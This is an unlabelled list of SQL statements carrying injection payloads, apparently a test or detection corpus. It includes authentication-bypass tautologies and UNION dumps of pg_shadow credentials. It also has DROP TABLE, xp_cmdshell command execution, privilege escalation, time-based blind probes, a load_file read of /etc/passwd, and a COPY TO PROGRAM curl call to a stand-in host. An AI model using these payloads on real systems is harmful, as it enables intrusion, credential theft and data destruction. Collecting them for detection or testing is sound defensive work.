SELECT * FROM users WHERE name = '' OR '1'='1'
SELECT * FROM users WHERE id = 1 OR 1=1
SELECT * FROM users WHERE id = 1 OR 1=1 --
SELECT * FROM users WHERE name = 'a' OR 'x'='x' AND pass = ''
SELECT * FROM users WHERE u = 'admin'--' AND p = 'x'
SELECT * FROM users WHERE u = 'admin'#' AND p = 'x'
SELECT * FROM users WHERE u = 'admin'/*' AND p = 'x' */
SELECT name FROM items WHERE id = 3 UNION SELECT NULL, NULL
SELECT name FROM items WHERE id = 3 UNION ALL SELECT 1,2,3
SELECT name FROM items WHERE id = 3 UNION SELECT usename, passwd FROM pg_shadow
SELECT name FROM items WHERE id = 3 UNION SELECT table_name, NULL FROM information_schema.tables
SELECT name FROM items WHERE id = -1 UNION SELECT version(), NULL
SELECT * FROM t WHERE id = 1; DROP TABLE cards
SELECT * FROM t WHERE id = 1; TRUNCATE cards
SELECT * FROM t WHERE id = 1; EXEC xp_cmdshell 'whoami'
SELECT * FROM t WHERE id = 1; ALTER USER app WITH SUPERUSER
SELECT * FROM t WHERE id = 1 AND pg_sleep(5) IS NULL
SELECT * FROM t WHERE id = 1 AND SLEEP(5)
SELECT * FROM t WHERE id = 1 AND BENCHMARK(5000000, MD5('a'))
SELECT * FROM t WHERE id = 1; WAITFOR DELAY '0:0:5'
SELECT load_file('/etc/passwd')
SELECT * FROM t WHERE id = 1 INTO OUTFILE '/tmp/x'
COPY (SELECT 1) TO PROGRAM 'curl http://x/'
SELECT * FROM users WHERE id = 1 || 1=1
SELECT * FROM users WHERE name = 'x' OR TRUE
SELECT * FROM users WHERE name = 'x' OR 1 --
SELECT * FROM users WHERE name = "a" OR "b"="b"
SELECT * FROM cards WHERE owner = '' OR ''=''
SELECT * FROM t WHERE a = 1 OR 2>1
SELECT * FROM t WHERE a = 1 XOR 1=1
